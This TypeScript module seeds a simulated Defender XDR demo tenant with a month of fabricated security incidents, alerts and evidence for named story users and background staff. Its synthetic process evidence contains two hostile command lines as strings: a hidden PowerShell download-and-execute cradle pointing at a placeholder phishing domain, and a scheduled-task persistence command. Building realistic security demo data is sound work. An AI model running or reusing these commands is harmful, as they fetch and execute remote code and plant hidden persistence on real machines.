/**
 * Seeds Defender XDR: incident 4211 (Adele's story), Megan Bowen's open "Unfamiliar sign-in properties"
 * incident, Alex Wilber's resolved "Leaked credentials" incident, and a month of background incidents across
 * Defender for Endpoint, Office 365, Cloud Apps, Identity and Entra ID Protection: phishing removed after
 * delivery, unwanted software, risky sign-ins, a brute force, and so on. Older ones are resolved and
 * classified; the last few days' are new or in progress. Ids count up with time and end at 4211.
 * It never picks named people for the background: their incidents are the stories'.
 */
import type { DemoUser } from '../demo-tenant-state.js';
import type {
  DemoAlertEvidence,
  DemoSecurityAlert,
  DemoSecurityIncident,
} from '../state/security-incident.js';
import {
  ALERT_TEMPLATES,
  type AlertKind,
  INCIDENT_SCENARIOS,
  type IncidentScenario,
} from './alert-catalog.js';
import {
  alertId,
  buildSecurityAlert,
  buildSecurityIncident,
  deviceEvidence,
  ipEvidence,
  mailboxEvidence,
  processEvidence,
  urlEvidence,
  userEvidence,
} from './build-security-alert.js';
import { DEMO_TENANT_ID, SOC_TEAM, STORY_PEOPLE } from './people.js';
import { HOSTILE_IPS, residentialIp, TRAVEL_PLACES } from './places.js';
import { personById, type SeedContext } from './seed-context.js';
import type { SeededRandom } from './seeded-random.js';
import { ADELE_INCIDENT_ID, seedAdeleIncident } from './story-adele-incident.js';
import { MEGAN_NEW_DEVICE_IP } from './story-megan-bowen.js';
import { STORY_TIMELINE, TIME } from './story-timeline.js';

/** The background produces alerts until it has at least this many. */
export const BACKGROUND_ALERT_TARGET = 110;
/** How far back Defender's background incidents go. */
export const INCIDENT_HISTORY_DAYS = 30;

const ANALYSTS = [SOC_TEAM.isaiah, SOC_TEAM.lee, SOC_TEAM.johanna, SOC_TEAM.patti].map(
  (p) => p.userPrincipalName,
);
const PHISHING_DOMAINS = [
  'contoso-payroll.example',
  'sharepoint-docs.example',
  'm365-verify.example',
  'invoice-portal.example',
];

interface Draft {
  alerts: DemoSecurityAlert[];
  status: 'active' | 'inProgress' | 'resolved';
  classification: string;
  determination: string;
  assignedTo: string | null;
  resolvingComment: string | null;
  createdAt: number;
}

function evidenceFor(
  kind: AlertKind,
  person: DemoUser,
  at: number,
  random: SeededRandom,
  mdeDeviceId: string,
): DemoAlertEvidence[] {
  const template = ALERT_TEMPLATES[kind];
  const laptop = person.devices[0]!;
  switch (template.evidence) {
    case 'device':
      return [
        deviceEvidence(
          {
            mdeDeviceId,
            azureAdDeviceId: laptop.deviceId,
            deviceDnsName: (laptop.displayName ?? 'desktop').toLowerCase(),
            osBuild: 22631,
            ipInterfaces: [`10.${random.int(16, 31)}.${random.int(0, 255)}.${random.int(2, 254)}`],
            firstSeenAt: at - random.int(60, 700) * TIME.DAY,
            riskScore: template.severity === 'high' ? 'high' : 'medium',
            loggedOn: person,
          },
          at,
        ),
        ...(kind === 'encodedPowerShell' || kind === 'scheduledTask'
          ? [
              processEvidence(
                {
                  processId: random.int(1000, 15000),
                  parentProcessId: random.int(600, 9000),
                  commandLine:
                    kind === 'scheduledTask'
                      ? `schtasks.exe /Create /SC ONLOGON /TN "OneDrive Update" /TR "powershell.exe -NoP -W Hidden -File C:\\Users\\${person.user.mailNickname}\\AppData\\Roaming\\odu.ps1"`
                      : `powershell.exe -NoP -NonI -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://${random.pick(PHISHING_DOMAINS)}/s.ps1')"`,
                  createdAt: at - random.int(1, 5) * TIME.MINUTE,
                  parentCreatedAt: at - random.int(1, 8) * TIME.HOUR,
                  mdeDeviceId,
                  imageFile: {
                    sha1: random.hex(40),
                    sha256: random.hex(64),
                    fileName: kind === 'scheduledTask' ? 'schtasks.exe' : 'powershell.exe',
                    filePath:
                      kind === 'scheduledTask'
                        ? 'C:\\Windows\\System32'
                        : 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
                    fileSize: kind === 'scheduledTask' ? 235_008 : 450_560,
                    filePublisher: 'Microsoft Corporation',
                    signer: 'Microsoft Windows',
                    issuer: 'Microsoft Windows Production PCA 2011',
                  },
                  parentImageFile: {
                    sha1: random.hex(40),
                    sha256: random.hex(64),
                    fileName: kind === 'scheduledTask' ? 'cmd.exe' : 'WINWORD.EXE',
                    filePath:
                      kind === 'scheduledTask'
                        ? 'C:\\Windows\\System32'
                        : 'C:\\Program Files\\Microsoft Office\\root\\Office16',
                    fileSize: kind === 'scheduledTask' ? 323_584 : 1_693_000,
                    filePublisher: 'Microsoft Corporation',
                    signer: kind === 'scheduledTask' ? 'Microsoft Windows' : 'Microsoft Corporation',
                    issuer:
                      kind === 'scheduledTask'
                        ? 'Microsoft Windows Production PCA 2011'
                        : 'Microsoft Code Signing PCA 2011',
                  },
                  account: person,
                },
                at,
              ),
            ]
          : []),
        userEvidence(person, at),
      ];
    case 'signIn': {
      const hostile = kind === 'anonymousIp' || kind === 'maliciousIp';
      const country = hostile
        ? random.pick(['NL', 'DE', 'PA', 'VN', 'NG'])
        : random.pick(TRAVEL_PLACES).countryOrRegion;
      return [
        userEvidence(person, at),
        ipEvidence(
          hostile ? random.pick(HOSTILE_IPS.others) : residentialIp(random),
          country,
          at,
          hostile ? ['attacker'] : ['suspicious'],
        ),
      ];
    }
    case 'email':
      return [
        mailboxEvidence(person, at),
        urlEvidence(`https://${random.pick(PHISHING_DOMAINS)}/${random.hex(8)}`, at),
      ];
    case 'user':
      return [userEvidence(person, at)];
  }
}

function backgroundIncident(
  scenario: IncidentScenario,
  person: DemoUser,
  random: SeededRandom,
  anchorMs: number,
): Draft {
  const createdAgo =
    random.int(6 * 60, INCIDENT_HISTORY_DAYS * 24 * 60) * TIME.MINUTE + random.int(0, 59) * 1000;
  const createdAt = anchorMs - createdAgo;
  const old = createdAgo > 3 * TIME.DAY;
  const status = old
    ? random.chance(0.9)
      ? 'resolved'
      : 'inProgress'
    : random.chance(0.5)
      ? 'active'
      : 'inProgress';
  const verdict = random.next();
  const [classification, determination] =
    status !== 'resolved'
      ? ['unknown', 'unknown']
      : verdict < 0.45
        ? ['truePositive', scenario.truePositiveDetermination]
        : verdict < 0.75
          ? ['falsePositive', random.pick(['notMalicious', 'notEnoughDataToValidate'])]
          : [
              'informationalExpectedActivity',
              random.pick(['confirmedUserActivity', 'securityTesting', 'lineOfBusinessApplication']),
            ];
  const assignedTo = status === 'active' && random.chance(0.5) ? null : random.pick(ANALYSTS);
  const resolvedAt = status === 'resolved' ? createdAt + random.int(20, 48 * 60) * TIME.MINUTE : null;
  const mdeDeviceId = random.hex(40);
  let at = createdAt;
  const alerts = scenario.alerts.map((kind, index) => {
    const template = ALERT_TEMPLATES[kind];
    if (index > 0) at += random.int(2, 90) * TIME.MINUTE;
    const firstActivityAt = at - random.int(1, 30) * TIME.MINUTE;
    const created = Math.min(at, anchorMs - TIME.MINUTE);
    const lastUpdateAt =
      resolvedAt ?? Math.min(created + random.int(0, 120) * TIME.MINUTE, anchorMs - TIME.MINUTE);
    return buildSecurityAlert(alertId(random, template.serviceSource), {
      template,
      incidentId: '',
      tenantId: DEMO_TENANT_ID,
      severity:
        kind === 'unfamiliarSignIn' || kind === 'anonymousIp' ? random.pick(['low', 'medium']) : undefined,
      status: status === 'resolved' ? 'resolved' : status === 'inProgress' ? 'inProgress' : 'new',
      classification,
      determination,
      assignedTo,
      firstActivityAt,
      lastActivityAt: firstActivityAt + random.int(0, 20) * TIME.MINUTE,
      createdAt: created,
      lastUpdateAt,
      resolvedAt,
      evidence: evidenceFor(kind, person, created, random, mdeDeviceId),
    });
  });
  return {
    alerts,
    status,
    classification,
    determination,
    assignedTo,
    resolvingComment: status === 'resolved' ? `Resolved as ${classification} (${determination}).` : null,
    createdAt,
  };
}

function meganIncident(context: SeedContext): Draft {
  const { random, anchorMs } = context;
  const megan = personById(context, STORY_PEOPLE.megan.id);
  const at = anchorMs - STORY_TIMELINE.megan.newDeviceSignIn;
  const alert = buildSecurityAlert(alertId(random, ALERT_TEMPLATES.unfamiliarSignIn.serviceSource), {
    template: ALERT_TEMPLATES.unfamiliarSignIn,
    incidentId: '',
    tenantId: DEMO_TENANT_ID,
    status: 'new',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: null,
    firstActivityAt: at,
    lastActivityAt: anchorMs - STORY_TIMELINE.megan.newDeviceMail,
    createdAt: at,
    lastUpdateAt: at,
    resolvedAt: null,
    evidence: [userEvidence(megan, at), ipEvidence(MEGAN_NEW_DEVICE_IP, 'US', at, ['suspicious'])],
  });
  return {
    alerts: [alert],
    status: 'active',
    classification: 'unknown',
    determination: 'unknown',
    assignedTo: null,
    resolvingComment: null,
    createdAt: at,
  };
}

function alexIncident(context: SeedContext): Draft {
  const { random, anchorMs } = context;
  const t = STORY_TIMELINE.alex;
  const alex = personById(context, STORY_PEOPLE.alex.id);
  const detected = anchorMs - t.leakDetected;
  const resolved = anchorMs - t.passwordReset + 40 * TIME.MINUTE;
  const alert = buildSecurityAlert(alertId(random, ALERT_TEMPLATES.leakedCredentials.serviceSource), {
    template: ALERT_TEMPLATES.leakedCredentials,
    incidentId: '',
    tenantId: DEMO_TENANT_ID,
    status: 'resolved',
    classification: 'truePositive',
    determination: 'compromisedAccount',
    assignedTo: SOC_TEAM.isaiah.userPrincipalName,
    firstActivityAt: anchorMs - t.leakActivity,
    lastActivityAt: anchorMs - t.leakActivity,
    createdAt: detected,
    lastUpdateAt: resolved,
    resolvedAt: resolved,
    evidence: [userEvidence(alex, detected)],
  });
  return {
    alerts: [alert],
    status: 'resolved',
    classification: 'truePositive',
    determination: 'compromisedAccount',
    assignedTo: SOC_TEAM.isaiah.userPrincipalName,
    resolvingComment: 'User reset the password with SSPR after MFA; no sign-ins with the leaked password.',
    createdAt: detected,
  };
}

/** All incidents and alerts, newest first. */
export function seedSecurityIncidents(
  background: SeedContext,
  stories: SeedContext,
): { incidents: DemoSecurityIncident[]; alerts: DemoSecurityAlert[] } {
  const { random, anchorMs } = background;
  const named = new Set([...Object.values(STORY_PEOPLE), ...Object.values(SOC_TEAM)].map((p) => p.id));
  const candidates = background.people.filter(
    (p) =>
      p.user.accountEnabled && !named.has(p.user.id) && p.user.userType === 'Member' && p.devices.length > 0,
  );
  const onWindows = candidates.filter((p) => p.devices[0]!.operatingSystem === 'Windows10');
  const scenarios = INCIDENT_SCENARIOS.map((s) => [s, s.weight] as const);
  const drafts: Draft[] = [meganIncident(stories), alexIncident(stories)];
  let alertCount = 0;
  while (alertCount < BACKGROUND_ALERT_TARGET) {
    const scenario = random.weighted(scenarios);
    const needsDevice = scenario.alerts.some((k) => ALERT_TEMPLATES[k].evidence === 'device');
    const person = random.pick(needsDevice ? onWindows : candidates);
    const draft = backgroundIncident(scenario, person, random, anchorMs);
    drafts.push(draft);
    alertCount += draft.alerts.length;
  }
  // Ids count up with creation time and end just below Adele's incident.
  drafts.sort((a, b) => a.createdAt - b.createdAt);
  const firstId = Number(ADELE_INCIDENT_ID) - drafts.length;
  const incidents: DemoSecurityIncident[] = [];
  const alerts: DemoSecurityAlert[] = [];
  drafts.forEach((draft, index) => {
    const id = String(firstId + index);
    const own = draft.alerts.map((a) => ({
      ...a,
      incidentId: id,
      incidentWebUrl: a.incidentWebUrl.replace('/incidents/?', `/incidents/${id}?`),
    }));
    incidents.push(
      buildSecurityIncident(
        {
          id,
          tenantId: DEMO_TENANT_ID,
          status: draft.status,
          classification: draft.classification,
          determination: draft.determination,
          assignedTo: draft.assignedTo,
          resolvingComment: draft.resolvingComment,
        },
        own,
      ),
    );
    alerts.push(...own);
  });
  const adele = seedAdeleIncident(stories);
  incidents.push(adele.incident);
  alerts.push(...adele.alerts);
  incidents.sort((a, b) =>
    a.createdDateTime < b.createdDateTime ? 1 : a.createdDateTime > b.createdDateTime ? -1 : 0,
  );
  alerts.sort((a, b) =>
    a.createdDateTime < b.createdDateTime ? 1 : a.createdDateTime > b.createdDateTime ? -1 : 0,
  );
  return { incidents, alerts };
}
